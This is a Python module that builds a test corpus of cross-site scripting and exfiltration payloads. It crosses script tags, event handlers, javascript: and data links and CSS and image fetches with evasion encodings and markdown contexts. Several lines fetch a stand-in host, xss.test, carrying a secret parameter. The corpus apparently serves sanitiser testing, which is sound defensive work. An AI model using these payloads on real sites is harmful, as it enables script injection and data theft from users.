"""A generated XSS and exfiltration corpus: classic vectors x encodings x markdown contexts.

Every payload tries to run ``window.__xss=1`` (or ``alert``) or to make the browser fetch
``http://xss.test/`` (an address that never resolves: any request to it is a leak).
"""

from __future__ import annotations

import html
import itertools
import urllib.parse

JS = "window.__xss=1"
ALERT = "alert(1)"
URL = "http://xss.test/leak?d=SECRET"

VECTORS = [
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<details open ontoggle={js}>x</details>",
    "<body onload={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<template><img src=x onerror={js}></template>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    "</textarea><script>{js}</script>",
    "<a href=\"javascript:{js}\">click</a>",
    "[click](javascript:{js})",
    "[click](jav&#x09;ascript:{js})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "<img src=\"{url}\">",
    "<img srcset=\"{url} 1x\">",
    "<link rel=stylesheet href=\"{url}\">",
    "<style>@import '{url}';</style>",
    "<div style=\"background:url({url})\">x</div>",
    "<object data=\"{url}\"></object>",
    "<embed src=\"{url}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url={url}\">",
    "<base href=\"{url}\">",
    "<svg><image href=\"{url}\"/></svg>",
    "<svg><a xlink:href=\"javascript:{js}\"><text y=20>x</text></a></svg>",
    "$$\\href{{javascript:{js}}}{{x}}$$",
    "$\\unicode{{<img src=x onerror={js}>}}$",
    "```mermaid\ngraph LR\nA-->B\nclick A \"javascript:{js}\"\n```",
    "<x onmouseover={js} style=\"display:block;width:9999px;height:9999px\">hover</x>",
]

ENCODINGS = {
    "plain": lambda s: s,
    "upper": lambda s: s.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SVG"),
    "entities": lambda s: s.replace("window", "&#x77;indow").replace("alert", "&#97;lert"),
    "escaped-html": html.escape,
    "url-encoded": lambda s: urllib.parse.quote(s, safe=""),
    "unicode": lambda s: s.replace("<", "\uff1c").replace(">", "\uff1e") + " " + s.replace("<", "\u003c"),
    "null-byte": lambda s: s.replace("script", "scr\x00ipt").replace("onerror", "on\x00error"),
    "newlines": lambda s: s.replace(" ", "\n", 1),
}

CONTEXTS = [
    "{p}",
    "- item {p}",
    "> quote {p}",
    "| a | b |\n|---|---|\n| {p} | x |",
    "## {p}",
    "**bold {p}**",
    "text `code` {p} more",
]


def corpus(minimum: int = 300) -> list[str]:
    """Unique payloads: every vector in every encoding, each in a rotating markdown context."""
    payloads, seen = [], set()
    contexts = itertools.cycle(CONTEXTS)
    for (name, encode), vector in itertools.product(ENCODINGS.items(), VECTORS):
        js = ALERT if len(payloads) % 3 == 2 else JS
        payload = next(contexts).format(p=encode(vector.format(js=js, url=URL)))
        if payload not in seen:
            seen.add(payload)
            payloads.append(payload)
    assert len(payloads) >= minimum, len(payloads)
    return payloads


def chunks(items: list[str], size: int) -> list[list[str]]:
    return [items[i:i + size] for i in range(0, len(items), size)]
